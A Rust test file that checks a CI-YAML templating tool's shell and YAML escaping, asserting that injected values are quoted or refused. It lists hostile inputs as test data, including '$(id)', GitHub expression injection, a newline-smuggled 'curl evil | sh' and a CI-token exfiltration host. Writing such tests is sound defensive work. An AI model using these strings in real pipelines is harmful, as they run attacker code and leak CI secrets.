//! Hostile values through the formatter and the `shell` and `inline` filters: each is either
//! written so that YAML and the shell read back exactly the value, or refused.

use serde::Serialize;

use crate::error::Error;
use crate::render::escape::{CommandLine, Expression};
use crate::render::shell::{ShellCommand, ShellWord};
use crate::render::templates::Templates;

#[derive(Serialize)]
struct View<T: Serialize> {
    v: T,
}

fn render<T: Serialize>(template: &str, v: T) -> Result<String, Error> {
    let name = "t.yml.j2".to_owned();
    let templates = Templates::from_sources(vec![(name.clone(), template.to_owned())], vec![])?;
    templates.render(&name, &View { v })
}

/// Whether the value is refused (as a model value, not as a template bug).
fn refused<T: Serialize>(template: &str, v: T) -> bool {
    matches!(render(template, v), Err(Error::Usage(_)))
}

/// Whether the template's use of the value is refused as a template bug.
fn misused<T: Serialize>(template: &str, v: T) -> bool {
    matches!(render(template, v), Err(Error::Template { .. }))
}

/// The string YAML reads at `key` of the rendered mapping.
fn read_back(text: &str, key: &str) -> Option<String> {
    let docs = crate::yaml::parse(text).ok()?;
    let doc = docs.first()?;
    doc.as_map()?.get(key)?.as_str().map(str::to_owned)
}

const HOSTILE: &[&str] = &[
    "a\nb: c",
    "a\rb",
    "a: b",
    "a #b",
    "a:",
    "${{ github.event.issue.title }}",
    "x\u{2028}y",
    "tab\there",
];

#[test]
fn whole_values_are_bare_only_when_they_read_back_the_same() -> Result<(), Error> {
    for (value, written) in [
        ("web", "web"),
        ("1.0", "\"1.0\""),
        ("no", "\"no\""),
        ("a: b", "\"a: b\""),
        ("a\nb: c", "\"a\\nb: c\""),
        ("'quoted'", "\"'quoted'\""),
    ] {
        let text = render("key: {{{ v }}}\n", value)?;
        assert_eq!(text, format!("key: {written}\n"));
        assert_eq!(read_back(&text, "key").as_deref(), Some(value));
    }
    assert!(refused("key: {{{ v }}}\n", "${{ secrets.TOKEN }}"));
    assert!(refused("key: {{{ v }}}\n", vec!["ok", "x${{ y }}"]));
    Ok(())
}

#[test]
fn shell_words_read_back_exactly_or_are_refused() -> Result<(), Error> {
    let template = "run: cmd --x {{{ v|shell }}} --y\n";
    for (value, quoted) in [
        ("web", "web"),
        ("it's", r"'it'\''s'"),
        ("$(id)", "'$(id)'"),
        ("`id`", "'`id`'"),
        ("\"q\"", "'\"q\"'"),
        ("a;b|c&d", "'a;b|c&d'"),
        ("#a", "'#a'"),
        ("${HOME}", "'${HOME}'"),
    ] {
        let text = render(template, value)?;
        let expected = format!("cmd --x {quoted} --y");
        assert_eq!(read_back(&text, "run").as_deref(), Some(expected.as_str()));
    }
    for value in HOSTILE {
        assert!(refused(template, value), "{value:?}");
    }
    let block = "run: |\n  kustomize build {{{ v|shell }}} | kubeconform\n";
    assert_eq!(
        render(block, "my dir")?,
        "run: |\n  kustomize build 'my dir' | kubeconform\n"
    );
    for value in HOSTILE {
        assert!(refused(block, value), "{value:?}");
    }
    Ok(())
}

#[test]
fn words_with_expansions_keep_their_text_literal() -> Result<(), Error> {
    let word = ShellWord::text("ghcr.io/acme/web:").then_expansion("${GITHUB_SHA}");
    let text = render("run: promote --image {{{ v|shell }}}\n", word)?;
    assert_eq!(
        text,
        "run: promote --image \"ghcr.io/acme/web:${GITHUB_SHA}\"\n"
    );
    let hostile = ShellWord::text("a$(id)\"").then_expansion("$SHA");
    let text = render("run: promote --image {{{ v|shell }}}\n", hostile)?;
    assert_eq!(
        read_back(&text, "run").as_deref(),
        Some(r#"promote --image "a\$(id)\"$SHA""#)
    );
    assert!(refused(
        "run: x {{{ v|shell }}}\n",
        ShellWord::text("a: b").then_expansion("$X")
    ));
    assert!(misused("run: x {{{ v }}}\n", ShellWord::expansion("$X")));
    Ok(())
}

#[test]
fn a_word_never_starts_a_yaml_value() {
    for template in [
        "run: {{{ v|shell }}}\n",
        "list:\n  - {{{ v|shell }}}\n",
        "run: |\n  {{{ v|shell }}} x\n",
        "list: [{{{ v|shell }}}]\n",
        "list: [a, {{{ v|shell }}}]\n",
        "name: {{{ v|inline }}}\n",
        "? {{{ v|inline }}}\n: x\n",
    ] {
        assert!(misused(template, "web"), "{template}");
    }
}

#[test]
fn commands_are_whole_lines_whose_words_are_quoted() -> Result<(), Error> {
    let command = ShellCommand::new("buildah build --file")
        .arg("my Dockerfile")
        .fixed("--tag \"$IMAGE\"")
        .arg(".");
    let text = render("script:\n  - {{{ v|shell }}}\n", command)?;
    assert_eq!(
        text,
        "script:\n  - buildah build --file 'my Dockerfile' --tag \"$IMAGE\" .\n"
    );
    for value in HOSTILE {
        let command = ShellCommand::new("cd").arg(*value);
        assert!(
            refused("script:\n  - {{{ v|shell }}}\n", command),
            "{value:?}"
        );
    }
    Ok(())
}

#[test]
fn inline_takes_only_inert_words() -> Result<(), Error> {
    for value in ["web", "123", "no", "localhost:5000/web", "v6.0.2"] {
        let text = render("name: Promote {{{ v|inline }}}\n", value)?;
        assert_eq!(read_back(&text, "name"), Some(format!("Promote {value}")));
    }
    let expression = "if: inputs.app == '{{{ v|inline }}}'\n";
    assert_eq!(render(expression, "web")?, "if: inputs.app == 'web'\n");
    for value in ["a b", "a'b", "x' || true || '", "a\"b", "$(id)", "x:"]
        .iter()
        .chain(HOSTILE)
    {
        assert!(refused(expression, value), "{value:?}");
    }
    Ok(())
}

#[test]
fn expressions_are_ours_and_their_text_is_checked() -> Result<(), Error> {
    let tag = Expression::text("ghcr.io/acme/web:").then("github.sha");
    assert_eq!(
        render("tags: {{{ v }}}\n", tag)?,
        "tags: \"ghcr.io/acme/web:${{ github.sha }}\"\n"
    );
    assert_eq!(
        render("repo: {{{ v }}}\n", Expression::text("acme/config"))?,
        "repo: acme/config\n"
    );
    let hostile = Expression::text("${{ github.event.issue.title }}").then("github.sha");
    assert!(refused("tags: {{{ v }}}\n", hostile));
    Ok(())
}

#[test]
fn filters_take_strings_and_numbers_only() -> Result<(), Error> {
    assert_eq!(render("port: x {{{ v|shell }}}\n", 8080)?, "port: x 8080\n");
    assert!(misused("run: x {{{ v|shell }}}\n", vec!["a"]));
    assert!(misused("run: x {{{ v|inline }}}\n", ShellWord::text("a")));
    Ok(())
}

#[test]
fn template_text_cannot_forge_a_landing_mark() {
    assert!(misused("run: x \u{2}\n", "web"));
    assert!(misused("run: x \u{1}y\n", "web"));
}

#[test]
fn command_lines_are_whole_values_of_one_line() -> Result<(), Error> {
    let text = render(
        "run: {{{ v }}}\n",
        CommandLine::new("make test && echo 'a: b' # ok"),
    )?;
    assert_eq!(
        read_back(&text, "run").as_deref(),
        Some("make test && echo 'a: b' # ok")
    );
    assert_eq!(
        render("run: {{{ v }}}\n", CommandLine::new("make"))?,
        "run: make\n"
    );
    for bad in [
        "make\ncurl evil | sh",
        "a\rb",
        "a\u{2028}b",
        "echo ${{ secrets.X }}",
        "$[[ inputs.x ]]",
    ] {
        assert!(
            refused("run: {{{ v }}}\n", CommandLine::new(bad)),
            "{bad:?}"
        );
    }
    Ok(())
}

#[test]
fn verbatim_values_hold_nothing_gitlab_would_expand() -> Result<(), Error> {
    let text = render("IMAGE: {{{ v|verbatim }}}\n", "ghcr.io/acme/web")?;
    assert_eq!(text, "IMAGE: ghcr.io/acme/web\n");
    let text = render("image: {{{ v|verbatim }}}\n", "node:22 'x'")?;
    assert_eq!(read_back(&text, "image").as_deref(), Some("node:22 'x'"));
    for bad in [
        "$CI_JOB_TOKEN.evil.io/x",
        "${CI_JOB_TOKEN}",
        "%CI_JOB_TOKEN%",
        "${{ x }}",
    ] {
        assert!(refused("IMAGE: {{{ v|verbatim }}}\n", bad), "{bad:?}");
    }
    Ok(())
}

#[test]
fn only_an_identifier_names_a_secret_in_an_expression() {
    let secret = Expression::secret("DB_PASSWORD").expect("an identifier");
    assert_eq!(secret.to_string(), "${{ secrets.DB_PASSWORD }}");
    for bad in [
        "",
        "1DB",
        "DB PASSWORD",
        "A}}",
        "a.b",
        "x-y",
        "${{ github.token }}",
    ] {
        assert!(Expression::secret(bad).is_none(), "{bad}");
    }
}
